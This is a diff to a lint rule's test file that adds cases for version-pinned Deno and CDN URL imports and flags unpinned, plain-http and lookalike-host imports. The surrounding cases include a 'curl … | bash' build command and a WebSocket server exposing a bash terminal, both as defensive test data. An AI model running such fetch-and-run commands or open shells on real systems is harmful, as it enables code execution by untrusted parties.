@@ -63,6 +63,10 @@ await ruleTester(rule, {
     // what a known program takes as data; the types of a platform
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url, dir]);' },
     { code: 'import { execFileSync } from "node:child_process"; const { token } = await (await fetch("https://api.example-service.com/login")).json(); execFileSync("/usr/bin/security", ["add-generic-password", "-s", "app", "-w", token]);' },
+    // Programs for Deno name their dependencies so, at a version.
+    { code: 'import { serve } from "https://deno.land/std@0.190.0/http/server.ts"; import { createClient } from "https://esm.sh/@supabase/supabase-js@2"; serve(() => new Response(String(createClient)));', filename: 'src/a.ts' },
+    { code: 'import Stripe from "https://esm.sh/stripe@14.21.0?target=deno"; Deno.serve(() => new Response(Stripe.name));', filename: 'src/a.ts' },
+    { code: 'import { z } from "https://cdn.jsdelivr.net/npm/zod@3.23.8/+esm"; export default z;', filename: 'supabase/functions/a/index.ts' },
     { code: 'import { Context } from "https://edge.netlify.com"; export default (request: Request, context: Context) => context.next();', filename: 'edge.ts' },
     // hooks, native modules and workers of the project; answers that are looked at and not run
     { code: 'import { register } from "node:module"; register("./hooks.mjs", import.meta.url); register("ts-node/esm", import.meta.url);' },
@@ -166,6 +170,11 @@ await ruleTester(rule, {
     { code: `import pty from 'node-pty'; import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 3000 }).on('connection', (ws) => { const term = pty.spawn('bash', [], {}); term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m)); });` },
   ],
   invalid: [
+    ...['https://esm.sh/tool', 'https://deno.land/x/tool/mod.ts', 'http://deno.land/std@0.190.0/a.ts', 'https://esm.sh.evil-cdn.net/a@1', 'https://cdn.example-service.com/a@1.js'].map((url) => ({
+      code: `import a from "${url}"; Deno.serve(a);`, filename: 'src/a.ts', errors: [{ messageId: 'module' as const }],
+    })),
+    { code: 'import a from "https://esm.sh/tool@1.2.3"; a();', filename: 'src/a.ts', errors: [{ messageId: 'module' }] },
+    { code: 'import { serve } from "https://deno.land/std@0.190.0/http/server.ts"; serve(a);', filename: 'src/a.ts', options: { strict: true }, errors: [{ messageId: 'module' }] },
     { code: 'repos:\n  - repo: https://github.com/acme/hooks\n    rev: main\n    hooks: [{ id: a }]\n', filename: '.pre-commit-config.yaml', options: { strict: true }, errors: [{ messageId: 'moving', line: 2 }] },
     { code: 'remotes:\n  - git_url: https://github.com/acme/hooks\n  - git_url: git@github.com:acme/hooks\n    ref: master\n  - git_url: https://github.com/acme/hooks\n    ref: v1\n', filename: 'lefthook.yml', options: { strict: true }, errors: [{ messageId: 'moving', line: 2 }, { messageId: 'moving', line: 3 }] },
     { code: '{ "build": { "production": { "prebuildCommand": "curl -s https://dl.acme.example/p.sh | bash" } } }', filename: 'eas.json', errors: [{ messageId: 'pipe' }] },
